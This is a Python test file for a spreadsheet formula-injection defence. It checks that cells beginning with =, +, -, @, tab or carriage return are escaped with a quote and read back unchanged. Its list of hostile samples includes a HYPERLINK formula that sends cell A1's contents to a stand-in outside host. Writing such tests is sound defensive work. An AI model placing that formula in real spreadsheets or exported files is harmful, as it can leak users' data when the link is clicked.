"""Formula injection: text cells that a spreadsheet would run are written as text, read back as they were."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lingjun.cellsafe import FORMULA_TRIGGERS, cell_text, cell_text_restore, cell_value

HOSTILE = ['=HYPERLINK("http://example.com/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_triggers_get_a_quote(text: str) -> None:
    assert cell_text(text) == "'" + text
    assert cell_text_restore(cell_text(text)) == text


@pytest.mark.parametrize("text", ["天津某某科技有限公司", "a=b", "'abc", "'", "", "1-2", " =1"])
def test_plain_text_is_unchanged(text: str) -> None:
    assert cell_text(text) == text
    assert cell_text_restore(text) == text


def test_text_that_looks_quoted_already_round_trips() -> None:
    # a value that really begins with ' and a trigger gets one more quote, so the reader's rule
    # (remove one ' when the rest begins with a trigger or a quoted trigger) is exact
    assert cell_text("'=1") == "''=1"
    assert cell_text_restore("''=1") == "'=1"
    assert cell_text("''-x") == "'''-x"
    assert cell_text_restore("'''-x") == "''-x"


def test_only_text_is_changed() -> None:
    assert cell_value(-5) == -5
    assert cell_value(None) is None
    assert cell_value("-5") == "'-5"


@given(st.text(alphabet=st.sampled_from([*FORMULA_TRIGGERS, "'", "a", "中", " "]), max_size=8))
def test_round_trip_property(text: str) -> None:
    written = cell_text(text)
    assert not written.startswith(FORMULA_TRIGGERS)
    assert cell_text_restore(written) == text
